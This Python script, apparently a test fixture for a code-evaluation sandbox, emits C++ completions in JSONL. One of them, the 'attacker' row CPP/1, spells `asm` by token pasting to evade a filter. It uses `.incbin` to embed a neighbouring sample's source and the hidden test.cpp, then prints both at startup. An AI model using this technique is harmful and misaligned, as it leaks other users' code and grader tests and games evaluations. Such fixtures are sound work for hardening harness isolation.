import hashlib
import json

# Sample 0 (the victim): an honest, correct CPP/0 completion with a marker comment.
victim = (
    "    // VICTIM-SECRET: the other sample's own code\n"
    "    for (int i = 0; i < (int)numbers.size(); i++)\n"
    "        for (int j = i + 1; j < (int)numbers.size(); j++)\n"
    "            if (fabs(numbers[i] - numbers[j]) < threshold) return true;\n"
    "    return false;\n}\n"
)
test_dir = "t_" + hashlib.sha256(b"CPP/0").hexdigest()[:12]
# Sample 1 (the attacker, CPP/1): `asm` spelled by token pasting, `.incbin` embeds files of
# the shared build session (the neighbour's main.cpp, the task's test.cpp) into its binary,
# and a static initializer prints them: they come back in its result's `stdout`.
attacker = r"""    return {};
}
#define VJ(a, b) a##b
VJ(as, m)(".section .rodata\n.globl vibes_other\nvibes_other:\n.incbin \"../s0/main.cpp\"\n.byte 0\n"
          ".globl vibes_test\nvibes_test:\n.incbin \"../TESTDIR/test.cpp\"\n.byte 0\n.text\n");
VJ(ext, ern) "C" const char vibes_other[];
VJ(ext, ern) "C" const char vibes_test[];
static int vibes_shown = printf("OTHER SAMPLE:\n%s\nTEST:\n%s\n", vibes_other, vibes_test) + fflush(stdout);
""".replace("TESTDIR", test_dir)
rows = [
    ("CPP/0", victim),
    ("CPP/1", attacker),
    ("CPP/2", "    return 0;\n}\n"),
    ("CPP/3", "    return false;\n}\n"),
]
for tid, c in rows:
    print(json.dumps({"task_id": tid, "completion": c}))
